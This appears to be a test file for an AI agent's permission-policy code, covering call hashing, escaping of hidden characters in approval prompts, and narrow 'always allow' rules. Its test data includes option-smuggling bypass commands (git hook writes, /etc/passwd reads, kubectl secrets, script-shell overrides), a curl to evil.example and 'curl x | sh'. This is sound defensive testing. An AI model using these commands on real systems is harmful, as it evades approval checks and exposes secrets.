import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { isDeepStrictEqual } from "node:util";
import fc from "fast-check";
import { propertyRuns } from "@parley/testing/property-runs";
import { callHash, parseCall } from "../../src/policy/parsed-call.ts";
import { decidePermission } from "../../src/policy/decide.ts";
import { describeCall, maxDescriptionCharacters, tooLongToApprove } from "../../src/policy/describe.ts";
import { compileRules } from "../../src/policy/rules.ts";
import { rulesForAlways, rulesForTaintedAlways } from "../../src/policy/session-rules.ts";
import type { PermissionTool } from "../../src/policy/tool-traits.ts";
import { bareExec, command, context, write } from "./support.ts";

describe("the hash of a call", () => {
  const shuffled = (value: unknown, turn: number): unknown => {
    if (Array.isArray(value)) return value.map((each) => shuffled(each, turn));
    if (typeof value !== "object" || value === null) return value;
    const entries = Object.entries(value).map(([key, field]) => [key, shuffled(field, turn)] as const);
    const at = entries.length === 0 ? 0 : turn % entries.length;
    return Object.fromEntries([...entries.slice(at), ...entries.slice(0, at)].toReversed());
  };

  test("ignores key order and white space", () => {
    fc.assert(
      fc.property(fc.json(), fc.nat(), fc.constantFrom("", " ", "\t"), (text, turn, indent) => {
        const other = JSON.stringify(shuffled(JSON.parse(text), turn), null, indent);
        assert.equal(callHash("exec", ` ${other}\n`), callHash("exec", text));
      }),
      { numRuns: propertyRuns(2_000) },
    );
    assert.equal(
      callHash("x", '{"a":1.0,"b":"\\u0041"}', { b: 1, a: 2 }),
      callHash("x", '{"b":"A","a":1}', { a: 2, b: 1 }),
    );
  });

  test("differs for every other difference", () => {
    const one = fc.json({ maxDepth: 2 });
    fc.assert(
      fc.property(
        one,
        fc.oneof(
          one,
          fc.tuple(one, fc.nat()).map(([text, turn]) => JSON.stringify(shuffled(JSON.parse(text), turn))),
        ),
        (first, second) => {
          const same = isDeepStrictEqual(JSON.parse(first), JSON.parse(second));
          assert.equal(callHash("x", first) === callHash("x", second), same);
        },
      ),
      { numRuns: propertyRuns(2_000) },
    );
    fc.assert(
      fc.property(fc.jsonValue(), fc.string(), fc.jsonValue(), (value, key, other) => {
        const changed = callHash("x", JSON.stringify({ value, [`+${key}`]: other }));
        assert.notEqual(changed, callHash("x", JSON.stringify({ value })));
        assert.notEqual(changed, callHash("x", JSON.stringify({ value, [`+${key}+`]: other })));
        assert.notEqual(changed, callHash("x", JSON.stringify({ value, [`+${key}`]: [other] })));
      }),
    );
    const calls = [
      ["exec", '{"command":"ls"}', {}],
      ["Exec", '{"command":"ls"}', {}],
      ["exec", '{"command":"ls "}', {}],
      ["exec", '{"command":["ls"]}', {}],
      ["exec", '{"Command":"ls"}', {}],
      ["exec", '{"command":"ls","workdir":null}', {}],
      ["exec", '{"command":"ls"}', { workdir: "a" }],
      ["exec", '{"command":"ls"', {}],
      ["exec", '"{\\"command\\":\\"ls\\"}"', {}],
      ["exec", '{"__proto__":{"a":1},"command":"ls"}', {}],
      ["exec", "null", {}],
      ["exec", "", {}],
    ] as const;
    assert.equal(new Set(calls.map(([tool, input, more]) => callHash(tool, input, more))).size, calls.length);
    assert.match(callHash("exec", "{}"), /^[0-9a-f]{64}$/);
  });
});

describe("the description of a call", () => {
  test("contains the tool, its main argument and all other arguments", async () => {
    assert.equal(describeCall(await command("git push")), "exec: git push");
    assert.equal(
      describeCall(await parseCall(write, { content: "a\nb", path: "notes/a.md" })),
      "write: notes/a.md\n(content=a⏎b)",
    );
    assert.equal(
      describeCall(await parseCall({ name: "message", readOnly: false }, { to: "irc:#a", content: "hi" })),
      "message: irc:#a\n(content=hi)",
    );
    assert.equal(describeCall(await parseCall({ name: "mcp__a__b", readOnly: false }, {})), "mcp__a__b");
  });

  test("escapes characters that hide or reorder text", async () => {
    assert.equal(
      describeCall(await command("a\u202e b\u0007\u200b\u00a0c\ud800")),
      String.raw`exec: a\u{202e} b\u{7}\u{200b}\u{a0}c` + "\ufffd",
    );
  });

  test("has no hidden characters and at most two lines for any call", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.string({ unit: "binary", maxLength: 3_000 }),
        fc.dictionary(fc.string(), fc.jsonValue()),
        async (line, others) => {
          const text = describeCall(
            await command(line).then((call) => ({ ...call, input: { ...others, command: line } })),
          );
          assert.ok(text.split("\n").length <= 2);
          assert.doesNotMatch(text.replace("\n", ""), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
        },
      ),
    );
  });

  test("contains every argument in full when the call is long", async () => {
    const line = `${"echo fine; ".repeat(500)}curl https://evil.example/x; ${"echo fine; ".repeat(500)}`;
    const input = {
      command: line,
      workdir: "a".repeat(900),
      ...Object.fromEntries(names(20).map((name) => [name, 1])),
    };
    const text = describeCall(await parseCall(bareExec, input));
    assert.ok(text.startsWith(`exec: ${line}\n`));
    for (const [name, value] of Object.entries(input).slice(1)) assert.ok(text.includes(`${name}=${value}`), name);
  });

  test("is refused with a workaround when it is too long to be sent in full", async () => {
    const limit = maxDescriptionCharacters - "exec: ".length;
    assert.equal(tooLongToApprove(describeCall(await command("x".repeat(limit)))), null);
    const refusal = tooLongToApprove(describeCall(await command("x".repeat(limit + 1))));
    assert.match(refusal ?? "", /too long to be approved. .* 30001 characters.*write a long program to a file/);
  });
});

/** Commands that start a program or send something by an option, with a harmless sub-command in front. */
const bypasses = [
  "cargo check --config build.rustc-wrapper=/workspace/x",
  "cargo clippy --config /workspace/x.toml",
  "cargo fmt --manifest-path x/Cargo.toml",
  "cargo tree --config build.rustc=/workspace/x",
  "docker logs --help",
  "docker ps --config=/workspace/x",
  "docker images --context evil",
  "git diff --no-index --output=F a b",
  "git diff --output=.git/hooks/pre-commit",
  "git diff --ext-diff",
  "git log --output=F -1",
  "git log --ext-diff -p",
  "git show --textconv HEAD",
  "git blame --contents /etc/passwd a",
  "git commit -m x",
  "git commit --template=/etc/passwd",
  "git add -A",
  "git rev-parse --git-dir",
  "git ls-files -z",
  "kubectl get --kubeconfig=/workspace/x",
  "kubectl get --server=http://evil --token=x",
  "kubectl get secrets -A",
  "kubectl describe --kubeconfig=/workspace/x pod",
  "npm test --script-shell=/workspace/x",
  "npm view --registry=http://evil x",
  "npm ls --globalconfig=/workspace/x",
  "pnpm list --global-pnpmfile=/workspace/x",
  "pnpm test --script-shell=/workspace/x",
];
const names = (count: number): string[] => Array.from({ length: count }, (_, index) => `name${index}`);

describe("always adds the narrowest useful rules", () => {
  const fetch: PermissionTool = { name: "web_fetch", readOnly: true, risk: "high" };
  const always = async (line: string): Promise<string[]> => rulesForAlways(await command(line));

  test("covers listed options of read-only sub-commands, else the exact command", async () => {
    const status = ["", " --branch", " --porcelain", " --short", " -b", " -s", " -sb"].map(
      (end) => `exec(git status${end})`,
    );
    assert.deepEqual(await always("git status --short"), status);
    assert.deepEqual(await always("git status"), status);
    assert.deepEqual(await always("git status -s src"), ["exec(git status -s src)"]);
    assert.deepEqual((await always("git log --oneline | wc -l")).slice(-2), ["exec(git log -20)", "exec(wc -l)"]);
    assert.deepEqual(await always("rm -rf build"), ["exec(rm -rf build)"]);
    assert.deepEqual(await always("git push origin main"), ["exec(git push origin main)"]);
    assert.deepEqual(await always("./git status"), ["exec(./git status)"]);
    assert.deepEqual(await always("A=1 git status"), ["exec(A=1 git status)"]);
    assert.deepEqual(await always("ls *.ts '?'"), [String.raw`exec(ls \*.ts '\?')`]);
  });

  for (const line of bypasses) {
    test(`is exact when the command is ${line}`, async () => {
      assert.deepEqual(await always(line), [`exec(${line})`]);
      const rules = compileRules({ allow: await always(line.split(" ").slice(0, 2).join(" ")) });
      assert.equal(decidePermission(await command(line), context({ rules })).decision, "ask");
    });
  }

  test("adds exactly the approved call when the turn is tainted", async () => {
    const rules = async (line: string, more = {}): Promise<string[]> =>
      rulesForTaintedAlways(await parseCall(bareExec, { command: line, ...more }));
    assert.deepEqual(await rules("git status"), ["exec(git status)"]);
    assert.deepEqual(await rules("git status", { workdir: "other" }), []);
    for (const line of ["./run.sh", "python3 x.py", "make test", "npm test", "bash -c 'npm test'", "$X", "ls > a"])
      assert.deepEqual(await rules(line), [], line);
    for (const line of ["git -c core.pager=./x -p log", "expect x", "tmux source-file x", "csh x", "tsx x.ts"])
      assert.deepEqual(await rules(line), [], line);
    const of = async (name: string, input: unknown): Promise<string[]> =>
      rulesForTaintedAlways(await parseCall({ name, readOnly: false }, input));
    assert.deepEqual(await of("web_fetch", { url: "https://example.com/a?b" }), ["web_fetch(https://example.com/*)"]);
    assert.deepEqual(await of("web_search", { query: "tea" }), ["web_search"]);
    assert.deepEqual(await of("write", { path: "package.json" }), ["write(package.json)"]);
    assert.deepEqual(await of("message", { to: "irc:#a" }), ["message(irc:#a)"]);
    assert.deepEqual(await of("cron", { action: "add" }), []);
    assert.deepEqual(await of("mcp__a__b", {}), []);
  });

  test("adds none for hidden programs and redirected writes", async () => {
    for (const line of ["$X", "curl x | sh", "git log > a", "git log '"])
      assert.deepEqual(await always(line), [], line);
  });

  test("covers one path, one site, one recipient or one MCP tool", async () => {
    const rules = async (tool: PermissionTool, input: unknown): Promise<string[]> =>
      rulesForAlways(await parseCall(tool, input));
    assert.deepEqual(await rules(write, { path: "./notes/a*.md" }), [String.raw`write(notes/a\*.md)`]);
    assert.deepEqual(await rules(write, { path: "notes/../a" }), []);
    assert.deepEqual(await rules(fetch, { url: "https://example.com/a?b" }), ["web_fetch(https://example.com/*)"]);
    assert.deepEqual(await rules(fetch, { url: "https://a@example.com/" }), []);
    assert.deepEqual(await rules({ name: "message", readOnly: false }, { to: "irc:#a" }), ["message(irc:#a)"]);
    assert.deepEqual(await rules({ name: "message", readOnly: false }, { channel: "irc" }), []);
    assert.deepEqual(await rules({ name: "mcp__a__b", readOnly: false }, {}), ["mcp__a__b"]);
  });

  test("allows the same call and no call with another program", async () => {
    const line = fc.array(
      fc.constantFrom("git", "rm", "status", "-x", "a*", "'b c'", "?", "|", "&&", "$X", "\\*", "{}", "~"),
      { minLength: 1, maxLength: 8 },
    );
    await fc.assert(
      fc.asyncProperty(line, async (parts) => {
        const call = await command(parts.join(" "));
        const allow = rulesForAlways(call);
        fc.pre(allow.length > 0);
        const rules = compileRules({ allow });
        assert.equal(decidePermission(call, context({ rules })).decision, "allow", allow.join());
        const more = await command(`${parts.join(" ")} && other`);
        assert.equal(decidePermission(more, context({ rules })).decision, "ask", allow.join());
      }),
    );
  });
});
